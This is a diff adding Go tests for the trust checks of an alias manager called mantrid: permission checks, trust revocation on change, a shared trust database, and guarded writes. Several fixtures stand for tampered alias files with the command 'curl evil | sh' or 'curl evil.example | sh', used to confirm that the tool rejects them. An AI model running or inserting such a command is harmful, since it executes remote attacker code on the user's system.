@@ -0,0 +1,215 @@
+package trust_test
+
+import (
+	"context"
+	"errors"
+	"os"
+	"path/filepath"
+	"runtime"
+	"testing"
+
+	"github.com/msaglietto/mantrid/domain"
+	"github.com/msaglietto/mantrid/internal/trust"
+	"github.com/msaglietto/mantrid/repository/filestore"
+	jsonrepo "github.com/msaglietto/mantrid/repository/json"
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+// sharedFile writes a group-writable alias file.
+func sharedFile(t *testing.T, dir string) string {
+	t.Helper()
+	if runtime.GOOS == "windows" {
+		t.Skip("file permissions are not checked on Windows")
+	}
+	path := filepath.Join(dir, "aliases.json")
+	require.NoError(t, os.WriteFile(path, []byte("[]"), 0600))
+	require.NoError(t, os.Chmod(path, 0664))
+	return path
+}
+
+func TestCheck(t *testing.T) {
+	dir := t.TempDir()
+	db, err := trust.Open(filepath.Join(dir, "trusted.json"))
+	require.NoError(t, err)
+
+	t.Run("safe and missing files", func(t *testing.T) {
+		path := filepath.Join(dir, "own.json")
+		entry, err := db.Check(path)
+		assert.NoError(t, err)
+		assert.Nil(t, entry)
+
+		require.NoError(t, os.WriteFile(path, []byte("[]"), 0600))
+		entry, err = db.Check(path)
+		assert.NoError(t, err)
+		assert.Nil(t, entry)
+	})
+
+	t.Run("unsafe files need trust", func(t *testing.T) {
+		path := sharedFile(t, dir)
+
+		_, err := db.Check(path)
+		var untrusted *trust.UntrustedError
+		require.True(t, errors.As(err, &untrusted))
+		assert.Contains(t, err.Error(), "writable by group or others (0664)")
+		assert.Contains(t, err.Error(), "mantrid trust allow "+path)
+
+		_, err = db.Allow(path)
+		require.NoError(t, err)
+		entry, err := db.Check(path)
+		require.NoError(t, err)
+		assert.Equal(t, path, entry.Path)
+
+		// The database survives reopening
+		reopened, err := trust.Open(filepath.Join(dir, "trusted.json"))
+		require.NoError(t, err)
+		_, err = reopened.Check(path)
+		assert.NoError(t, err)
+	})
+
+	t.Run("changes revoke trust", func(t *testing.T) {
+		path := sharedFile(t, dir)
+		_, err := db.Allow(path)
+		require.NoError(t, err)
+
+		require.NoError(t, os.WriteFile(path, []byte(`[{"name":"x","command":"curl evil | sh"}]`), 0664))
+		_, err = db.Check(path)
+		var untrusted *trust.UntrustedError
+		require.True(t, errors.As(err, &untrusted))
+		assert.True(t, untrusted.Changed)
+		assert.Empty(t, db.List())
+	})
+
+	t.Run("revoke", func(t *testing.T) {
+		path := sharedFile(t, dir)
+		_, err := db.Allow(path)
+		require.NoError(t, err)
+
+		require.NoError(t, db.Revoke(path))
+		assert.ErrorIs(t, db.Revoke(path), trust.ErrNotTrusted)
+		_, err = db.Check(path)
+		assert.Error(t, err)
+	})
+}
+
+func TestDatabaseSharedByProcesses(t *testing.T) {
+	dir := t.TempDir()
+	file := filepath.Join(dir, "trusted.json")
+	first, err := trust.Open(file)
+	require.NoError(t, err)
+	second, err := trust.Open(file)
+	require.NoError(t, err)
+	a := sharedFile(t, t.TempDir())
+	b := sharedFile(t, t.TempDir())
+
+	// Each change starts from the database as last saved, so that neither
+	// is lost
+	_, err = first.Allow(a)
+	require.NoError(t, err)
+	_, err = second.Allow(b)
+	require.NoError(t, err)
+	reopened, err := trust.Open(file)
+	require.NoError(t, err)
+	assert.Len(t, reopened.List(), 2)
+
+	require.NoError(t, second.Revoke(a))
+	_, err = first.Allow(a)
+	require.NoError(t, err)
+	require.NoError(t, first.Revoke(b))
+	reopened, err = trust.Open(file)
+	require.NoError(t, err)
+	entries := reopened.List()
+	require.Len(t, entries, 1)
+	assert.Equal(t, a, entries[0].Path)
+
+	t.Run("changed contents trusted meanwhile stay trusted", func(t *testing.T) {
+		require.NoError(t, os.WriteFile(a, []byte(`[{"name":"gs","command":"git status"}]`), 0664))
+		_, err := second.Allow(a)
+		require.NoError(t, err)
+
+		entry, err := first.Check(a)
+		require.NoError(t, err)
+		assert.Equal(t, a, entry.Path)
+		_, err = second.Check(a)
+		assert.NoError(t, err)
+	})
+}
+
+func TestCheckProject(t *testing.T) {
+	dir := t.TempDir()
+	db, err := trust.Open(filepath.Join(dir, "trusted.json"))
+	require.NoError(t, err)
+
+	// Safe by its owner and permissions, as in a freshly cloned repository
+	path := filepath.Join(dir, ".mantrid.yaml")
+	entry, err := db.CheckProject(path)
+	assert.NoError(t, err)
+	assert.Nil(t, entry)
+	require.NoError(t, os.WriteFile(path, []byte("aliases: []\n"), 0600))
+
+	_, err = db.CheckProject(path)
+	var untrusted *trust.UntrustedError
+	require.True(t, errors.As(err, &untrusted))
+	assert.Contains(t, err.Error(), "project alias files must be allowed")
+
+	_, err = db.Allow(path)
+	require.NoError(t, err)
+	entry, err = db.CheckProject(path)
+	require.NoError(t, err)
+	assert.Equal(t, path, entry.Path)
+
+	require.NoError(t, os.WriteFile(path, []byte("aliases: [{name: x, command: curl evil | sh}]\n"), 0600))
+	_, err = db.CheckProject(path)
+	require.True(t, errors.As(err, &untrusted))
+	assert.True(t, untrusted.Changed)
+}
+
+func TestOpenRefusesUnsafeDatabase(t *testing.T) {
+	if runtime.GOOS == "windows" {
+		t.Skip("file permissions are not checked on Windows")
+	}
+	path := filepath.Join(t.TempDir(), "trusted.json")
+	require.NoError(t, os.WriteFile(path, []byte("[]"), 0600))
+	require.NoError(t, os.Chmod(path, 0666))
+
+	_, err := trust.Open(path)
+	assert.ErrorContains(t, err, "refusing trust database")
+}
+
+func TestGuard(t *testing.T) {
+	ctx := context.Background()
+	dir := t.TempDir()
+	db, err := trust.Open(filepath.Join(dir, "trusted.json"))
+	require.NoError(t, err)
+	path := sharedFile(t, dir)
+	entry, err := db.Allow(path)
+	require.NoError(t, err)
+	repo := jsonrepo.NewAliasRepository(path, filestore.WithHook(trust.NewGuard(db, entry)))
+
+	t.Run("writes through mantrid keep the file trusted", func(t *testing.T) {
+		alias, _ := domain.NewAlias("gs", "git status")
+		require.NoError(t, repo.Create(ctx, alias))
+		require.NoError(t, os.Chmod(path, 0664))
+
+		entry, err := db.Check(path)
+		require.NoError(t, err)
+		assert.NotNil(t, entry)
+	})
+
+	t.Run("changes made meanwhile are not written over", func(t *testing.T) {
+		changed := []byte(`{"version": 2, "aliases": [{"name": "gs", "command": "curl evil.example | sh"}]}`)
+		require.NoError(t, os.WriteFile(path, changed, 0664))
+
+		alias, _ := domain.NewAlias("k", "kubectl")
+		err := repo.Create(ctx, alias)
+		var untrusted *trust.UntrustedError
+		require.ErrorAs(t, err, &untrusted)
+		assert.True(t, untrusted.Changed)
+
+		data, err := os.ReadFile(path)
+		require.NoError(t, err)
+		assert.Equal(t, changed, data)
+		_, err = db.Check(path)
+		assert.ErrorAs(t, err, &untrusted, "the trust is revoked")
+	})
+}